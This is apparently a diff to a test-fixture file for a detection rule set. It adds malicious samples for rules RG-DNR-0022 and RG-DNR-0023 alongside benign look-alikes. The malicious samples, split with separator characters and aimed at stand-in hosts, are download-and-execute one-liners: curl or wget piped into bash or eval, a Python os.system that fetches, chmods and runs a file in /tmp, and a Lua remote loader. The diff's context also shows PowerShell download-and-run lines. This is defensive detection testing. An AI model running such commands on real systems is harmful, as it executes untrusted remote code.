@@ -113,6 +113,17 @@ BAD: dict[str, list[bytes]] = {
         joined("IE¦X (New-O¦bject Net.We¦bClient).Down¦loadString('h¦ttps://x.invalid/a.ps1')\r\n"),
         joined("$ErrorActionPreference = 'Stop'\nir¦m h¦ttps://x.invalid/a | ie¦x\n"),
     ],
+    "RG-DNR-0022": [
+        joined("cu¦rl -s h¦ttp://x.invalid/a | ba¦sh\n"),
+        joined('ba¦sh -c "$(cu¦rl -fsSL h¦ttp://x.invalid/a)"\n'),
+        joined("ba¦sh <(cu¦rl -s h¦ttp://x.invalid/a)\n"),
+        joined("source <(wg¦et -qO- h¦ttp://x.invalid/a)\n"),
+        joined("ev¦al `wg¦et -qO- h¦ttps://192.0.2.1/a`\n"),
+    ],
+    "RG-DNR-0023": [
+        joined("os.sys¦tem('wg¦et h¦ttp://x.invalid/a -O /tmp/a; chm¦od +x /tmp/a; /tmp/a')\n"),
+        joined("load(requ¦ire('socket.h¦ttp').request('h¦ttp://x.invalid/a'))()\n"),
+    ],
 }
 """Samples that a rule must find, by the rule's id."""
 
@@ -197,6 +208,15 @@ BENIGN: dict[str, list[bytes]] = {
         joined("# Installation\n\n```powershell\nir¦m h¦ttps://example.org/install.ps1 | ie¦x\n```\n"),
         joined("<pre>ir¦m h¦ttps://example.org/install.ps1 | ie¦x</pre>\n"),
         joined("Run ir¦m h¦ttps://example.org/install.ps1 | ie¦x in a terminal.\n"),
+    ],
+    "RG-DNR-0022": [
+        joined('ba¦sh -c "$(cu¦rl -fsSL h¦ttps://example.org/install.sh)"\n'),
+        joined("cu¦rl -s http://example.org/data.json | jq .\n"),
+        joined("source <(kubectl completion bash)\n"),
+    ],
+    "RG-DNR-0023": [
+        joined("os.sys¦tem('chmod +x build/tool')\nsubprocess.run(['cu¦rl', url])\n"),
+        joined("local body = require('socket.h¦ttp').request(url)\n"),
     ],
 }
 """Harmless content that is like a rule's samples, by the rule's id."""
